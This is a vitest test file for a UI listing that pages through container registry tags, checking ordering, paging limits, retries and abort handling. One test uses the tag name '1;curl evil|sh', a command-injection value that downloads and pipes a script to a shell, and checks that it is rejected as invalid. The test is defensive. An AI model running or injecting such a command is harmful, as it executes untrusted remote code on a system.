import { describe, expect, it } from 'vitest';
import { mostRows, noNewRows, rowsLeftOut, tooManyRows } from '../../../src/core/bounds';
import type { Entry, Page } from '../../../src/core/model';
import { Listing } from '../../../src/ui/tree/listing';

function tag(name: string): Entry {
  return { kind: 'tag', label: name, image: { host: 'registry.example.com', path: 'a', tag: name } };
}

function tags(from: number, to: number): Entry[] {
  return Array.from({ length: to - from }, (_, index) => tag(`t${from + index}`));
}

/** A registry with these pages; the cursor is the number of the next one. */
function paged(...pages: readonly (readonly Entry[])[]) {
  const cursors: (string | undefined)[] = [];
  const fetch = (cursor: string | undefined): Promise<Page<Entry>> => {
    cursors.push(cursor);
    const at = Number(cursor ?? 0);
    const items = pages[at] ?? [];
    return Promise.resolve(at + 1 < pages.length ? { items, next: String(at + 1) } : { items });
  };
  return { fetch, cursors };
}

describe('a listing', () => {
  it('draws a hundred of 50,000 tags, and two hundred more without asking', async () => {
    const { fetch, cursors } = paged(tags(0, 50_000));
    const listing = new Listing(100, 100, { list: fetch });
    await listing.load();
    expect([listing.wantedEntries.length, listing.known, listing.canDrawMore]).toEqual([100, 50_000, true]);
    listing.wantMore();
    await listing.load();
    expect(listing.wantedEntries.length).toBe(300);
    expect(cursors).toEqual([undefined]);
  });

  it('draws no more rows for a second press before those of the first are there', async () => {
    const { fetch, cursors } = paged(...Array.from({ length: 10 }, (_, at) => tags(at * 100, (at + 1) * 100)));
    const listing = new Listing(100, 100, { list: fetch });
    await listing.load();
    listing.wantMore();
    listing.wantMore();
    const loading = listing.load();
    listing.wantMore();
    await loading;
    expect([listing.wantedEntries.length, cursors.length]).toEqual([300, 3]);
    listing.wantMore();
    await listing.load();
    expect(listing.wantedEntries.length).toBe(700);
  });

  it('comes to the end of 5,000 tags in seven steps, of which none asks for more than a thousand rows', async () => {
    const pages = Array.from({ length: 50 }, (_, at) => tags(at * 100, (at + 1) * 100));
    const { fetch, cursors } = paged(...pages);
    const listing = new Listing(100, 100, { list: fetch });
    await listing.load();
    const drawn: number[][] = [[cursors.length, listing.wantedEntries.length]];
    while (listing.canDrawMore) {
      listing.wantMore();
      await listing.load();
      drawn.push([cursors.length, listing.wantedEntries.length]);
    }
    expect(drawn).toEqual([
      [1, 100],
      [3, 300],
      [7, 700],
      [15, 1500],
      [25, 2500],
      [35, 3500],
      [45, 4500],
      [50, 5000],
    ]);
  });

  it('puts tags in order before it draws them, and moves no row that is drawn', async () => {
    const { fetch } = paged(['1', '3'].map(tag), ['2', 'latest'].map(tag), ['9', '5'].map(tag), ['4', '7'].map(tag));
    const listing = new Listing(2, 4, { list: fetch });
    await listing.load();
    const first = ['latest', '3', '2', '1'];
    expect(listing.wantedEntries.map(({ label }) => label)).toEqual(first);
    listing.wantMore();
    await listing.load();
    expect(listing.wantedEntries.map(({ label }) => label)).toEqual([...first, '9', '7', '5', '4']);
  });

  it('keeps what is no name apart from its rows, and not all of it', async () => {
    const { fetch } = paged([...tags(0, 2), tag('1;curl evil|sh'), tag('a\nb'), ...tags(2, 3)]);
    const listing = new Listing(100, 100, { list: fetch });
    await listing.load();
    expect(listing.wantedEntries.map(({ label }) => label)).toEqual(['t2', 't1', 't0']);
    expect(listing.invalid).toEqual(['1;curl evil|sh', 'a\nb']);
    const many = new Listing(100, 100, { list: paged(Array.from({ length: 5000 }, (_, at) => tag(`;${at}`))).fetch });
    await many.load();
    expect([many.known, many.invalid.length]).toEqual([0, 100]);
  });

  it('asks for the next page only when its rows are wanted', async () => {
    const { fetch, cursors } = paged(tags(0, 1000), tags(1000, 1500));
    const listing = new Listing(1000, 1000, { list: fetch });
    await listing.load();
    expect([cursors.length, listing.canDrawMore, listing.isComplete]).toEqual([1, true, false]);
    listing.wantMore();
    await listing.load();
    expect([cursors.length, listing.canDrawMore, listing.isComplete, listing.known]).toEqual([2, false, true, 1500]);
  });

  it('loads as many pages as were drawn before a refresh', async () => {
    const { fetch, cursors } = paged(tags(0, 10), tags(10, 20), tags(20, 30));
    await new Listing(10, 20, { list: fetch }).load();
    expect(cursors).toEqual([undefined, '1']);
  });

  it('goes on behind pages that bring no row, or only such as are known', async () => {
    const { fetch, cursors } = paged(tags(0, 3), tags(0, 3), [], tags(3, 5));
    const listing = new Listing(100, 100, { list: fetch });
    await listing.load();
    expect([listing.known, listing.isComplete, cursors.length]).toEqual([5, true, 4]);
  });

  it('says that many pages in a row brought no row, and goes on behind them when it is retried', async () => {
    let asked = 0;
    const barren = (): Promise<Page<Entry>> =>
      Promise.resolve(++asked === 41 ? { items: tags(0, 1) } : { items: [], next: String(asked) });
    const listing = new Listing(100, 100, { list: barren });
    await listing.load();
    await listing.load();
    expect([asked, listing.isComplete, listing.canDrawMore]).toEqual([20, false, false]);
    expect(listing.failure).toMatchObject({ detail: { code: noNewRows } });
    listing.retry();
    await listing.load();
    expect(asked).toBe(40);
    listing.retry();
    await listing.load();
    expect([asked, listing.known, listing.isComplete, listing.failure]).toEqual([41, 1, true, undefined]);
  });

  it('ends, and says so, at as many rows as any list may have', async () => {
    let asked = 0;
    const endless = (): Promise<Page<Entry>> => {
      const from = asked++ * 30_000;
      return Promise.resolve({ items: tags(from, from + 30_000), next: String(asked) });
    };
    const listing = new Listing(100, 1_000_000, { list: endless, subject: 'registry.example.com' });
    await listing.load();
    await listing.load();
    expect([asked, listing.known]).toEqual([4, mostRows]);
    expect(listing.failure).toMatchObject({ message: '100,000', detail: { code: tooManyRows } });
  });

  it('draws on what is known of a list that was cut', async () => {
    const cut = { items: tags(0, 300), failure: rowsLeftOut('registry.example.com', 300) };
    let asked = 0;
    const listing = new Listing(100, 100, { list: () => Promise.resolve((asked++, cut)) });
    await listing.load();
    expect([listing.wantedEntries.length, listing.canDrawMore]).toEqual([100, true]);
    listing.wanted += 200;
    await listing.load();
    expect([asked, listing.wantedEntries.length, listing.canDrawMore]).toEqual([1, 300, false]);
    expect(listing.failure).toBe(cut.failure);
  });

  it('ends where a page repeats what is known', async () => {
    const again = (): Promise<Page<Entry>> => Promise.resolve({ items: tags(0, 10), next: 'again' });
    const listing = new Listing(100, 100, { list: again });
    await listing.load();
    expect([listing.known, listing.isComplete, listing.canDrawMore]).toEqual([10, true, false]);
  });

  it('asks anew, when retried, for a page that told why it is not whole', async () => {
    const pages: Page<Entry>[] = [{ items: tags(0, 1), failure: new Error('no catalog') }, { items: tags(0, 3) }];
    const listing = new Listing(100, 100, { list: () => Promise.resolve(pages.shift() ?? { items: [] }) });
    await listing.load();
    expect([listing.known, listing.isComplete, listing.failure]).toEqual([1, false, new Error('no catalog')]);
    listing.retry();
    await listing.load();
    expect([listing.known, listing.isComplete, listing.failure]).toEqual([3, true, undefined]);
  });

  it('keeps what it has when a page fails, and goes on there', async () => {
    const { fetch } = paged(tags(0, 10), tags(10, 20));
    let isDown = false;
    const listing = new Listing(10, 10, {
      list: (cursor) => (isDown ? Promise.reject(new Error('down')) : fetch(cursor)),
    });
    await listing.load();
    isDown = true;
    listing.wanted += 10;
    await listing.load();
    expect([listing.known, listing.failure, listing.isComplete]).toEqual([10, new Error('down'), false]);
    isDown = false;
    listing.retry();
    await listing.load();
    expect([listing.known, listing.failure, listing.isComplete]).toEqual([20, undefined, true]);
  });

  it('loads once for two that ask at once', async () => {
    const { fetch, cursors } = paged(tags(0, 10));
    const listing = new Listing(100, 100, { list: fetch });
    await Promise.all([listing.load(), listing.load()]);
    expect(cursors).toEqual([undefined]);
  });

  it('takes nothing in after it was given up', async () => {
    const listing = new Listing(100, 100, {
      list: (_cursor, signal) => {
        return new Promise((_resolve, reject) => {
          signal.addEventListener('abort', () => {
            reject(new DOMException('Aborted', 'AbortError'));
          });
        });
      },
    });
    const loading = listing.load();
    listing.abort();
    await loading;
    expect([listing.failure, listing.known, listing.isLoading]).toEqual([undefined, 0, false]);
  });
});
